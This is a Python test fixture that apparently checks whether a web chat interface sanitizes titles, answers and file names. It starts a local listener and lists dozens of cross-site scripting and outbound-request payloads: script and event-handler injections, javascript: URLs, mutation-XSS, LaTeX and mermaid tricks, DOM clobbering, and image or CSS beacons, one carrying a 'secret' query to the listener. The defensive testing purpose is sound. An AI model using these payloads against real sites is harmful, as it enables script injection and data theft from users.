"""What may be in a title, an answer or a file's name: strings that want to run, or to have the browser call somebody."""

# ruff: noqa: E501  (each string is one attempt)

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Final

RUN: Final = "window.__pwned=1"


@dataclass
class Listening:
    """Another server on this machine, which nobody may call."""

    url: str
    hits: list[str] = field(default_factory=list)


@contextmanager
def listening() -> Iterator[Listening]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.hits.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: object) -> None:
            """Nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        heard = Listening(f"http://127.0.0.1:{server.server_address[1]}")
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield heard
        finally:
            server.shutdown()


def titles(url: str) -> tuple[str, ...]:
    """Short ones, for names too."""
    return (
        f"<script>{RUN}</script>",
        f"<img src=x onerror={RUN}>",
        f"<svg onload={RUN}>",
        f"\"><iframe srcdoc='<script>parent.{RUN}</script>'>",
        f"'-({RUN})-'",
        f"${{{RUN}}}{{{{{RUN}}}}}",
        f"![x]({url}/title.png)",
        f"[x](javascript:{RUN})",
    )


def texts(url: str) -> tuple[str, ...]:
    """Each a paragraph of Markdown."""
    return (
        *titles(url),
        f"![picture]({url}/a.png?said=secret) and ![reference][r]\n\n[r]: {url}/b.png",
        f"<img src='{url}/c.png'><img srcset='{url}/d.png 2x'><input type=image src='{url}/e.png'>",
        f"<picture><source srcset='{url}/f.png'><img></picture><video poster='{url}/g.png' src='{url}/h.mp4'></video>",
        f"<audio src='{url}/i.mp3' autoplay></audio><embed src='{url}/j'><object data='{url}/k'></object>",
        f"<iframe src='{url}/l'></iframe><iframe src=\"javascript:parent.{RUN}\"></iframe>",
        f"<link rel=stylesheet href='{url}/m.css'><link rel=prefetch href='{url}/n'><style>@import '{url}/o.css';</style>",
        f"<style>body{{background:url({url}/p.png)}}</style><p style=\"background:url('{url}/q.png')\">styled</p>",
        f"<base href='{url}/'><meta http-equiv=refresh content='0;url={url}/r'>",
        f"<form action='{url}/s'><button>Send</button></form><form id=f></form><button form=f formaction='javascript:{RUN}'>",
        f"<svg><script>{RUN}</script><image href='{url}/t.png'/><use href='{url}/u.svg#x'/></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg><svg><a xlink:href='javascript:{RUN}'>go</a></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
        f"<math href='javascript:{RUN}'>click</math><details open ontoggle={RUN}>x</details>",
        f"[data](data:text/html,<script>{RUN}</script>) [vb](vbscript:{RUN}) [tab](java\tscript:{RUN})",
        f"<a href='&#106;avascript:{RUN}'>entity</a> <javascript:{RUN}> <a href='{url}/v' ping='{url}/w'>ping</a>",
        f"$\\href{{javascript:{RUN}}}{{x}}$ $\\url{{javascript:{RUN}}}$ $\\includegraphics{{{url}/x.png}}$",
        f"$$\\htmlData{{onclick={RUN}}}{{x}}\\htmlStyle{{background:url({url}/y.png)}}{{y}}$$ $<img src=x onerror={RUN}>$",
        f'```html"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
        f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]-->B; click A href "javascript:{RUN}"\n```',
        f"`<img src=x onerror={RUN}>` | a | b |\n\n| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | c |",
        f"<think><img src=x onerror={RUN}></think><details><summary onclick={RUN}>s</summary><img src={url}/z.png></details>",
        f"![x](/gradio_api/file={url}/1.png) ![x](/gradio_api/proxy={url}/2.png) ![x](//{url[7:]}/3.png)",
        f"<img src='/gradio_api/file={url}/4.png'><a href='/logout'>out</a>",
        f"<x-foo onclick={RUN} style=animation-name:x onanimationstart={RUN}>custom</x-foo><xss autofocus tabindex=1 onfocus={RUN}>",
        f"<a href=# id=a name=a onclick={RUN}>a</a><img name=getElementById><form name=body></form>",
    )
